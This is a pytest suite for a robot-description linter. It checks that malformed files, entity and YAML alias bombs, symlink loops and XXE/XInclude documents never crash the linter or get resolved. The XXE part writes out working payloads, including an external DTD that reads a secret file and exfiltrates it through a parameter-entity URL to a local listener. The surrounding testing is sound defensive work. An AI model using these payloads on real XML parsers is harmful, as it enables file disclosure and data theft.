"""Hostile input: each bad file gives a finding or a clear error with the right exit code.

Never a traceback, never a hang, and no entity, DTD or XInclude is ever resolved from disk or
network. The last test mutates real robot files at random (hypothesis) and asserts that the
linter, the output formats and the fix computation never raise.
"""

from __future__ import annotations

import copy
import glob
import json
import os
import random
import shutil
import socket
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree
from typer.testing import CliRunner

from armtool.cli import app
from armtool.lint.engine import LintOptions, lint_paths
from armtool.lint.finding import Finding, Severity
from armtool.lint.fix import fixed_texts, safe_edits
from armtool.lint.registry import BY_CODE
from armtool.output.base import LintReport
from armtool.output.registry import OutputFormat, formatter

REPO = Path(__file__).resolve().parents[2]
LINK = '<link name="{name}"><inertial><mass value="1"/><inertia ixx="0.01" ixy="0" ixz="0" iyy="0.01" iyz="0" izz="0.01"/></inertial></link>'


def run_cli(*args: str, cwd: Path | None = None, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    """The real entry point (`python -m armtool`, so `main()` turns ArmtoolError into exit 2), in any venv.

    A hang fails the test through subprocess.TimeoutExpired (the child is killed)."""
    env = {k: v for k, v in os.environ.items() if k not in ("ARMTOOL_DEBUG", "ROS_PACKAGE_PATH", "AMENT_PREFIX_PATH")}
    env["PYTHONPATH"] = os.pathsep.join([str(REPO), *filter(None, [env.get("PYTHONPATH")])])
    env["NO_COLOR"] = "1"
    return subprocess.run(
        [sys.executable, "-m", "armtool", *args],
        capture_output=True,
        text=True,
        encoding="utf-8",
        errors="replace",
        timeout=timeout,
        cwd=cwd,
        env=env,
    )


def json_findings(proc: subprocess.CompletedProcess[str]) -> list[dict[str, object]]:
    return json.loads(proc.stdout)["findings"]  # type: ignore[no-any-return]


def no_traceback(proc: subprocess.CompletedProcess[str]) -> None:
    assert "Traceback" not in proc.stderr and "internal error" not in proc.stderr, proc.stderr


def lint(path: Path, **options: object) -> list[Finding]:
    return lint_paths([path], LintOptions(**options)).findings  # type: ignore[arg-type]


def robot_urdf(n_links: int = 1, extra: str = "") -> str:
    parts = ['<?xml version="1.0"?>\n<robot name="arm">\n<link name="l0"/>\n', extra]
    for i in range(1, n_links + 1):
        parts.append(
            LINK.format(name=f"l{i}")
            + f'\n<joint name="j{i}" type="revolute"><origin xyz="0 0 0.1" rpy="0 0 0"/><parent link="l{i - 1}"/>'
            f'<child link="l{i}"/><axis xyz="0 0 1"/><limit lower="-1" upper="1" effort="1" velocity="1"/></joint>\n'
        )
    parts.append("</robot>\n")
    return "".join(parts)


# ---- not XML, not a robot, nothing there -----------------------------------------------------------

BAD_FILES = {
    # name: (file name, content, code reported)
    "malformed": ("robot.urdf", b'<robot name="r">\n  <link name="a">\n</robot>\n', "U001"),
    "truncated": ("robot.urdf", robot_urdf(2).encode()[:150], "U001"),
    "not-a-robot": ("robot.urdf", b'<?xml version="1.0"?>\n<html><body/></html>\n', "U002"),
    "not-a-robot-xacro": ("robot.urdf.xacro", b'<?xml version="1.0"?>\n<html><body/></html>\n', "U002"),
    "empty": ("robot.urdf", b"", "U001"),
    "blank": ("robot.urdf", b"  \n\n\t\n", "U001"),
    "binary": ("robot.urdf", random.Random(0).randbytes(4096), "U001"),
    "binary-no-nul": ("robot.urdf", bytes(random.Random(1).randrange(128, 256) for _ in range(4096)), "U001"),
    "nul-inside": ("robot.urdf", b'<robot name="r">\x00<link name="a"/></robot>', "U001"),
    "empty-srdf": ("robot.srdf", b"", "S001"),
    "malformed-srdf": ("robot.srdf", b'<robot name="r"><group name="g"></robot>', "S001"),
    "not-a-robot-srdf": ("robot.srdf", b"<html/>", "S001"),
    "empty-xacro": ("robot.xacro", b"", "X001"),
    "binary-xacro": ("robot.xacro", random.Random(0).randbytes(4096), "X001"),
    "invalid-yaml": ("kinematics.yaml", b"arm: [1, 2\n  kinematics_solver: {\n", "K001"),
}


@pytest.mark.parametrize("case", list(BAD_FILES))
def test_bad_file_is_one_finding_and_exit_1(case: str, tmp_path: Path) -> None:
    name, content, code = BAD_FILES[case]
    path = tmp_path / name
    path.write_bytes(content)
    found = lint(path)
    assert [f.code for f in found] == [code]
    assert found[0].severity is Severity.ERROR and found[0].line >= 1 and found[0].column >= 1
    result = CliRunner().invoke(app, ["lint", "--format", "json", str(path)])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code == 1
    assert [f["code"] for f in json.loads(result.stdout)["findings"]] == [code]


def test_malformed_xml_reports_the_line_through_the_real_cli(tmp_path: Path) -> None:
    (tmp_path / "robot.urdf").write_text('<robot name="r">\n  <link name="a">\n</robot>\n')
    proc = run_cli("lint", "robot.urdf", cwd=tmp_path)
    assert proc.returncode == 1
    assert "robot.urdf" in proc.stdout and "U001" in proc.stdout and "3:" in proc.stdout
    no_traceback(proc)


def test_missing_path_is_exit_2_naming_the_path(tmp_path: Path) -> None:
    missing = tmp_path / "no_such_dir" / "ghost_robot.urdf"
    proc = run_cli("lint", str(missing))
    assert proc.returncode == 2
    assert str(missing) in proc.stderr.replace("\n", "") and proc.stdout == ""  # rich may wrap a long path
    no_traceback(proc)


def test_directory_without_robot_files_is_exit_2(tmp_path: Path) -> None:
    empty = tmp_path / "not_a_robot_pkg"
    (empty / "docs" / "deeper").mkdir(parents=True)
    (empty / "README.md").write_text("# nothing to lint\n")
    (empty / "docs" / "robot.urdf.txt").write_text("<robot/>\n")
    proc = run_cli("lint", str(empty))
    assert proc.returncode == 2
    assert str(empty) in proc.stderr.replace("\n", "") and proc.stdout == ""
    no_traceback(proc)


def _symlink_or_skip(target: str, link: Path) -> None:
    try:
        link.symlink_to(target, target_is_directory=True)
    except (OSError, NotImplementedError):
        pytest.skip("cannot create symlinks here")


def test_directory_symlink_loop_is_walked_once(tmp_path: Path) -> None:
    pkg = tmp_path / "pkg"
    pkg.mkdir()
    (pkg / "arm.urdf").write_text(robot_urdf(1))
    _symlink_or_skip(".", pkg / "self")
    proc = run_cli("lint", "--format", "json", str(pkg), timeout=60)
    assert proc.returncode == 0
    assert json.loads(proc.stdout)["files_checked"] == 1


def test_branching_symlink_loop_does_not_hang(tmp_path: Path) -> None:
    # Two links back to the same directory: a naive walk visits 2**40 paths before ELOOP stops it.
    pkg = tmp_path / "pkg"
    pkg.mkdir()
    (pkg / "README.md").write_text("no robot here\n")
    _symlink_or_skip(".", pkg / "a")
    _symlink_or_skip(".", pkg / "b")
    proc = run_cli("lint", str(pkg), timeout=10)  # a sound walk takes well under a second
    assert proc.returncode == 2
    no_traceback(proc)


def test_xacro_including_a_missing_file_is_x001(tmp_path: Path) -> None:
    path = tmp_path / "arm.urdf.xacro"
    path.write_text(
        '<?xml version="1.0"?>\n<robot name="arm" xmlns:xacro="http://www.ros.org/wiki/xacro">\n'
        '  <xacro:include filename="does_not_exist.xacro"/>\n  <link name="base"/>\n</robot>\n'
    )
    (f,) = lint(path)
    assert f.code == "X001" and f.severity is Severity.ERROR and "does_not_exist.xacro" in f.message
    proc = run_cli("lint", str(path))
    assert proc.returncode == 1 and "X001" in proc.stdout
    no_traceback(proc)


@pytest.mark.parametrize(
    "body",
    [
        '<xacro:include filename="arm.urdf.xacro"/>',  # includes itself
        '<xacro:macro name="m"><xacro:m/></xacro:macro><xacro:m/>',  # endless macro recursion
    ],
    ids=["self-include", "recursive-macro"],
)
def test_endless_xacro_is_x001(body: str, tmp_path: Path) -> None:
    path = tmp_path / "arm.urdf.xacro"
    path.write_text(f'<robot name="arm" xmlns:xacro="http://www.ros.org/wiki/xacro">{body}<link name="a"/></robot>\n')
    assert [f.code for f in lint(path)] == ["X001"]


# ---- big files ---------------------------------------------------------------------------------------

FIFTY_MB = 50 * 1024 * 1024


def test_50_mb_urdf_is_linted(tmp_path: Path) -> None:
    # A 30 000-joint serial chain (far deeper than Python's recursion limit) padded to 50 MB with comments.
    chain = robot_urdf(30_000)
    comment = "<!-- " + "x" * (1024 * 1024) + " -->\n"
    padding = comment * ((FIFTY_MB - len(chain)) // len(comment) + 1)
    path = tmp_path / "big.urdf"
    path.write_text(robot_urdf(30_000, extra=padding))
    assert path.stat().st_size >= FIFTY_MB
    result = lint_paths([path], LintOptions())
    assert result.findings == []


def test_50_mb_comment_is_a_finding_not_a_crash(tmp_path: Path) -> None:
    path = tmp_path / "comment.urdf"
    path.write_text(robot_urdf(2, extra="<!-- " + "y" * FIFTY_MB + " -->\n"))
    found = lint(path)
    assert all(f.code == "U001" for f in found) and len(found) <= 1  # libxml2's size limit, or clean
    assert all(len(f.message) < 1000 for f in found)


# ---- entity bombs ------------------------------------------------------------------------------------


def _laughs() -> str:
    decls = ['<!ENTITY a "aaaaaaaaaa">'] + [
        f'<!ENTITY {n} "{("&" + p + ";") * 10}">' for p, n in zip("abcdefgh", "bcdefghi")
    ]
    return "<!DOCTYPE robot [\n " + "\n ".join(decls) + "\n]>\n"


BOMBS = {
    "laughs-in-attribute": _laughs() + f'<robot name="&i;"><link name="l0"/>{LINK.format(name="l1")}</robot>\n',
    "laughs-in-text": _laughs() + '<robot name="arm"><link name="l0"/><gazebo>&i;</gazebo></robot>\n',
    "quadratic": '<!DOCTYPE robot [<!ENTITY a "'
    + "a" * 100_000
    + '">]>\n<robot name="arm"><link name="l0"/><gazebo>'
    + "&a;" * 20_000
    + "</gazebo></robot>\n",
}


@pytest.mark.parametrize("suffix", [".urdf", ".urdf.xacro", ".srdf"])
@pytest.mark.parametrize("bomb", list(BOMBS))
def test_entity_bomb_is_not_expanded(bomb: str, suffix: str, tmp_path: Path) -> None:
    path = tmp_path / f"bomb{suffix}"
    path.write_text('<?xml version="1.0"?>\n' + BOMBS[bomb])
    started = time.monotonic()
    found = lint(path)
    assert time.monotonic() - started < 20
    assert found, "an entity declaration is at least worth a finding"
    assert all(len(f.message) < 2000 and "a" * 200 not in f.message for f in found)
    proc = run_cli("lint", "--format", "json", str(path), timeout=60)
    assert proc.returncode in (0, 1) and len(proc.stdout) < 20_000
    no_traceback(proc)


def _alias_bomb() -> str:
    lines = ['a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for prev, name in zip("abcdefgh", "bcdefghi"):
        lines.append(f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 10) + "]")
    lines += [
        "arm:",
        "  kinematics_solver: *i",
        "  kinematics_solver_timeout: *i",
        "  kinematics_solver_search_resolution: *i",
    ]
    return "\n".join(lines) + "\n"


def test_yaml_alias_bomb_is_not_expanded(tmp_path: Path) -> None:
    path = tmp_path / "kinematics.yaml"
    path.write_text(_alias_bomb())
    proc = run_cli("lint", "--format", "json", str(path), timeout=10)  # unexpanded, this takes well under a second
    assert proc.returncode in (0, 1) and len(proc.stdout) < 100_000
    no_traceback(proc)


def _setup_assistant_bomb(levels: int) -> str:
    """A .setup_assistant whose xacro_args alias 10**levels values (the URDF it names is real)."""
    names = "abcdefghijklmnop"[: levels + 1]
    lines = ['a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for prev, name in zip(names, names[1:]):
        lines.append(f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 10) + "]")
    lines += [
        "moveit_setup_assistant_config:",
        "  urdf:",
        "    package: clean_arm",
        "    relative_path: urdf/clean_arm.urdf",
        f"    xacro_args: *{names[-2]}",
        "  srdf:",
        "    relative_path: config/clean_arm.srdf",
    ]
    return "\n".join(lines) + "\n"


def test_setup_assistant_alias_bomb_is_read_as_invalid_yaml(tmp_path: Path) -> None:
    """Read with armtool.yamlload's guard, as every YAML file: a million aliased values are refused
    (plain yaml.safe_load built them, and str() of the xacro arguments walked every one)."""
    from armtool.lint.pairing import read_setup_assistant

    for name, text in (("bomb", _setup_assistant_bomb(7)), ("invalid", "moveit_setup_assistant_config: [\n")):
        (tmp_path / name).mkdir()
        (tmp_path / name / ".setup_assistant").write_text(text)
        assert read_setup_assistant(tmp_path / name) is None, name
    (tmp_path / "fine").mkdir()
    (tmp_path / "fine" / ".setup_assistant").write_text(_setup_assistant_bomb(1))  # 10 values: fine
    assert read_setup_assistant(tmp_path / "fine") is not None


def test_package_with_a_setup_assistant_alias_bomb_lints_as_with_an_unreadable_one(tmp_path: Path) -> None:
    """10**9 values: the lint finishes at once and says what it says when .setup_assistant is not YAML
    (it is read by every file of the package; unguarded, one read never ended)."""
    robots = REPO / "fixtures" / "robots"
    found = {}
    for name, text in (("bomb", _setup_assistant_bomb(9)), ("invalid", "moveit_setup_assistant_config: [\n")):
        root = tmp_path / name
        shutil.copytree(robots / "clean_arm", root / "clean_arm")
        shutil.copytree(robots / "clean_arm_moveit_config", root / "clean_arm_moveit_config")
        (root / "clean_arm_moveit_config" / ".setup_assistant").write_text(text)
        proc = run_cli("lint", "--format", "json", "clean_arm_moveit_config", cwd=root, timeout=30)
        assert proc.returncode in (0, 1), proc.stderr
        no_traceback(proc)
        found[name] = json_findings(proc)
    assert found["bomb"] == found["invalid"]


# ---- external entities, external DTDs, XInclude: nothing is read, nothing is fetched ----------------


@contextmanager
def tcp_listener() -> Iterator[tuple[int, socket.socket]]:
    """A listening socket: the kernel queues any connection attempt, so accept() afterwards tells."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        sock.bind(("127.0.0.1", 0))
        sock.listen(64)
        sock.setblocking(False)
        yield sock.getsockname()[1], sock
    finally:
        sock.close()


def was_contacted(sock: socket.socket) -> bool:
    try:
        conn, _ = sock.accept()
    except (BlockingIOError, InterruptedError):
        return False
    conn.close()
    return True


def age_atime(path: Path) -> int:
    """Set atime well before mtime, so that any read updates it (relatime); return it."""
    st = path.stat()
    os.utime(path, ns=(st.st_mtime_ns - 3600 * 10**9, st.st_mtime_ns))
    return path.stat().st_atime_ns


def atime_shows_reads(directory: Path) -> bool:
    probe = directory / "atime_probe.bin"
    probe.write_bytes(b"probe")
    before = age_atime(probe)
    probe.read_bytes()
    changed = probe.stat().st_atime_ns != before
    probe.unlink()
    return changed


BODY = """<robot name="arm" xmlns:xacro="http://www.ros.org/wiki/xacro" xmlns:xi="http://www.w3.org/2001/XInclude">
  <link name="base"/>
  {link}
  <joint name="j1" type="revolute"><parent link="base"/><child link="l1"/><axis xyz="0 0 1"/>
    <limit lower="-1" upper="1" effort="1" velocity="1"/></joint>
  <transmission name="t1"><type>{ref}</type><joint name="j1"/>
    <actuator name="m1"><mechanicalReduction>{ref}</mechanicalReduction></actuator></transmission>
  <group name="arm"><joint name="j1"/>{ref}</group>
  <group_state name="home" group="arm"><joint name="j1" value="0"/></group_state>
  {ref}
</robot>
"""


def _hostile_documents(directory: Path, secret: Path, port: int) -> dict[str, str]:
    uri, leak = secret.resolve().as_uri(), f"http://127.0.0.1:{port}"
    link = LINK.format(name="l1")
    refs = "&file;&rel;&net;"
    (directory / "evil.dtd").write_text(
        f'<!ENTITY % p SYSTEM "{uri}">\n'
        f"<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '{leak}/?d=%p;'>\">\n"
        "%wrap;\n%send;\n"
        f'<!ENTITY file SYSTEM "{uri}">\n'
    )
    xinclude = f'<xi:include href="{uri}" parse="text"/><xi:include href="{leak}/xi" parse="text"/>'
    return {
        "internal-subset": (
            f'<!DOCTYPE robot [\n <!ENTITY file SYSTEM "{uri}">\n <!ENTITY rel SYSTEM "../{secret.name}">\n'
            f' <!ENTITY net SYSTEM "{leak}/entity">\n]>\n' + BODY.format(link=link, ref=refs)
        ),
        "entity-in-attribute": (
            f'<!DOCTYPE robot [<!ENTITY file SYSTEM "{uri}">]>\n' + BODY.format(link='<link name="&file;"/>', ref="")
        ),
        "local-external-dtd": '<!DOCTYPE robot SYSTEM "evil.dtd">\n' + BODY.format(link=link, ref="&file;"),
        "remote-external-dtd": f'<!DOCTYPE robot SYSTEM "{leak}/evil.dtd">\n' + BODY.format(link=link, ref=""),
        "parameter-entities": (
            f'<!DOCTYPE robot [\n <!ENTITY % p SYSTEM "{uri}">\n <!ENTITY % remote SYSTEM "{leak}/pe">\n'
            " %remote;\n]>\n" + BODY.format(link=link, ref="")
        ),
        "xinclude": BODY.format(link=link, ref=xinclude),
    }


@pytest.mark.parametrize("suffix", [".urdf", ".srdf", ".urdf.xacro"])
def test_external_entities_are_never_resolved(suffix: str, tmp_path: Path) -> None:
    token = f"TOP-SECRET-{uuid.uuid4().hex}"
    secret = tmp_path / "secret.txt"
    secret.write_text(token + "\n")
    work = tmp_path / "robots"
    work.mkdir()
    with tcp_listener() as (port, sock):
        docs = _hostile_documents(work, secret, port)
        paths = []
        for name, text in docs.items():
            (work / name).mkdir()
            shutil.copy(work / "evil.dtd", work / name / "evil.dtd")
            path = work / name / f"robot{suffix}"
            path.write_text('<?xml version="1.0"?>\n' + text)
            paths.append(path)
        watch_atime = atime_shows_reads(tmp_path)
        watched = [secret, *sorted(work.rglob("evil.dtd"))]
        atimes = {p: age_atime(p) for p in watched}

        result = lint_paths(paths, LintOptions())
        procs = [run_cli("lint", "--format", fmt, *map(str, paths)) for fmt in ("text", "json")]

        assert not was_contacted(sock), "a network entity, DTD or XInclude was fetched"
    for finding in result.findings:
        assert token not in f"{finding.path} {finding.message} {finding.hint}"
    for proc in procs:
        assert proc.returncode in (0, 1)
        assert token not in proc.stdout and token not in proc.stderr
        no_traceback(proc)
    assert len(result.files) == len(paths)
    if watch_atime:
        read = [p.name for p in watched if p.stat().st_atime_ns != atimes[p]]
        assert read == [], f"read from disk: {read}"


# ---- property test: mutated real robot files never crash the linter ---------------------------------

ERD_SUBPATH = "cmeel.prefix/share/example-robot-data/robots"
ERD_URDFS = [
    "panda_description/urdf/panda.urdf",
    "ur_description/urdf/ur5_robot.urdf",
    "z1_description/urdf/z1.urdf",
    "so_arm_description/urdf/so101.urdf",
    "kinova_description/robots/kinova.urdf",
    "talos_data/robots/talos_left_arm.urdf",
]
ERD_SRDFS = [("panda_description/srdf/panda.srdf", "panda_description/urdf/panda.urdf")]


def _erd(relative: str) -> Path | None:
    hits = glob.glob(f"{sys.prefix}/lib/python*/site-packages/{ERD_SUBPATH}/{relative}")
    return Path(hits[0]) if hits else None


def _sources() -> list[tuple[Path, Path | None]]:
    """(file to mutate, URDF its SRDF describes) from example-robot-data and fixtures/robots."""
    out: list[tuple[Path, Path | None]] = []
    for rel in ERD_URDFS:
        if (path := _erd(rel)) is not None:
            out.append((path, None))
    for srdf_rel, urdf_rel in ERD_SRDFS:
        srdf, urdf = _erd(srdf_rel), _erd(urdf_rel)
        if srdf is not None and urdf is not None:
            out.append((srdf, urdf))
    fixtures = REPO / "fixtures" / "robots"
    for path in sorted(fixtures.glob("*/**/*")):
        name = path.name
        if name.endswith(".urdf") or name.endswith(".urdf.xacro") or name.endswith("kinematics.yaml"):
            out.append((path, None))
        elif name.endswith(".srdf"):
            urdfs = sorted(path.parent.parent.glob("urdf/*.urdf"))
            out.append((path, urdfs[0] if urdfs else None))
    return out


SOURCES = _sources()
XACRO_NS = "http://www.ros.org/wiki/xacro"
TAGS = [
    "robot",
    "link",
    "joint",
    "origin",
    "axis",
    "limit",
    "mimic",
    "inertial",
    "mass",
    "inertia",
    "visual",
    "collision",
    "geometry",
    "mesh",
    "box",
    "cylinder",
    "sphere",
    "transmission",
    "actuator",
    "mechanicalReduction",
    "parent",
    "child",
    "calibration",
    "dynamics",
    "safety_controller",
    "group",
    "chain",
    "group_state",
    "end_effector",
    "virtual_joint",
    "passive_joint",
    "disable_collisions",
    "material",
    "gazebo",
    f"{{{XACRO_NS}}}macro",
    f"{{{XACRO_NS}}}property",
    f"{{{XACRO_NS}}}if",
    f"{{{XACRO_NS}}}arg",
    "unknown_tag",
]
ATTRS = [
    "name",
    "type",
    "link",
    "joint",
    "xyz",
    "rpy",
    "lower",
    "upper",
    "effort",
    "velocity",
    "value",
    "ixx",
    "ixy",
    "ixz",
    "iyy",
    "iyz",
    "izz",
    "filename",
    "scale",
    "size",
    "radius",
    "length",
    "multiplier",
    "offset",
    "base_link",
    "tip_link",
    "group",
    "parent_link",
    "parent_group",
    "child_link",
    "link1",
    "link2",
    "params",
]
SPECIAL = [
    "nan",
    "NaN",
    "-nan",
    "inf",
    "-inf",
    "Infinity",
    "1e308",
    "-1e308",
    "1e400",
    "-1e400",
    "1e-320",
    "0",
    "-0",
    "0.0",
    "",
    " ",
    "1 2",
    "1 2 3 4",
    "nan nan nan",
    "inf 0 0",
    "0 0 0",
    "1,2,3",
    "0x1F",
    "1_000",
    "३",
    "package://",
    "package:///",
    "package://ghost/x.stl",
    "file://",
    "../../x.stl",
    "$(find ghost)",
    "$(arg ghost)",
    "${ghost}",
    "${1/0}",
    "${[1]*10**9}",
    "[/bold]",
    "%s%n",
    "\u202e",
    "\t\n",
]
XML_TEXT = st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), max_size=24)
VALUES = st.one_of(
    st.sampled_from(SPECIAL),
    XML_TEXT,
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.lists(st.floats(allow_nan=True, allow_infinity=True), max_size=5).map(lambda xs: " ".join(map(repr, xs))),
)
OPS = ["delete", "duplicate", "rename", "set_attr", "del_attr", "set_text", "move"]


def _mutate_tree(draw: st.DrawFn, root: etree._Element) -> None:
    elements = [el for el in root.iter() if isinstance(el.tag, str)]
    el = elements[draw(st.integers(0, len(elements) - 1))]
    op = draw(st.sampled_from(OPS))
    parent = el.getparent()
    try:
        if op == "delete" and parent is not None:
            parent.remove(el)
        elif op == "duplicate" and parent is not None:
            parent.insert(parent.index(el) + 1, copy.deepcopy(el))
        elif op == "rename":
            el.tag = draw(st.sampled_from(TAGS))
        elif op == "set_attr":
            attr = draw(st.sampled_from(sorted(el.attrib) + ATTRS if el.attrib else ATTRS))
            el.set(attr, draw(VALUES))
        elif op == "del_attr" and el.attrib:
            del el.attrib[draw(st.sampled_from(sorted(el.attrib)))]
        elif op == "set_text":
            el.text = draw(VALUES)
        elif op == "move" and parent is not None:
            target = elements[draw(st.integers(0, len(elements) - 1))]
            target.append(el)  # ValueError when target is el or one of its descendants
    except ValueError:  # lxml refuses text that XML cannot hold, or a cycle: skip this operation
        pass


@st.composite
def mutants(draw: st.DrawFn) -> tuple[Path, Path | None, bytes]:
    source, urdf = draw(st.sampled_from(SOURCES))
    data = source.read_bytes()
    if not source.name.endswith(".yaml"):
        parser = etree.XMLParser(resolve_entities=False, no_network=True, remove_blank_text=False)
        root = etree.fromstring(data, parser)
        for _ in range(draw(st.integers(0, 4))):
            _mutate_tree(draw, root)
        data = etree.tostring(root.getroottree(), encoding="utf-8", xml_declaration=True)
    byte_op = draw(st.sampled_from(["none", "none", "none", "none", "truncate", "insert", "replace"]))
    if byte_op != "none" and data:
        at = draw(st.integers(0, len(data)))
        if byte_op == "truncate":
            data = data[:at]
        else:
            blob = draw(
                st.one_of(
                    st.binary(min_size=1, max_size=12),
                    st.sampled_from([b"<", b"&", b"]]>", b"\x00", b"\xff\xfe", b"<!--", b"<![CDATA["]),
                )
            )
            data = data[:at] + blob + data[at + (len(blob) if byte_op == "replace" else 0) :]
    return source, urdf, data


@pytest.fixture(scope="module")
def workdir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    work = tmp_path_factory.mktemp("mutants")
    xacro_pkg = REPO / "fixtures" / "robots" / "xacro_arm"
    if xacro_pkg.is_dir():  # keep the mutant next to the files it includes
        shutil.copytree(xacro_pkg, work / "xacro_arm")
    return work


def _where(source: Path, work: Path) -> Path:
    xacro_pkg = REPO / "fixtures" / "robots" / "xacro_arm"
    if source.is_relative_to(xacro_pkg):
        return work / "xacro_arm" / source.relative_to(xacro_pkg)
    return work / "mutant" / source.name


@pytest.mark.skipif(not SOURCES, reason="no real robot files (example-robot-data or fixtures/robots) to mutate")
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(case=mutants())
def test_mutated_robot_files_never_crash_the_linter(case: tuple[Path, Path | None, bytes], workdir: Path) -> None:
    source, urdf, data = case
    path = _where(source, workdir)
    path.parent.mkdir(parents=True, exist_ok=True)
    original = path.read_bytes() if path.exists() else None
    path.write_bytes(data)
    try:
        result = lint_paths([path], LintOptions(urdf=urdf))  # may report anything, must not raise
        for f in result.findings:
            assert f.code in BY_CODE and f.line >= 1 and f.column >= 1 and isinstance(f.message, str)
        report = LintReport(result.findings, len(result.files))
        for fmt in OutputFormat:
            formatter(fmt).render(report, color=False)
        fixed_texts(safe_edits(result.findings))  # what --fix / --diff would write (computed, not written)
    finally:
        if original is not None:
            path.write_bytes(original)
        else:
            path.unlink()
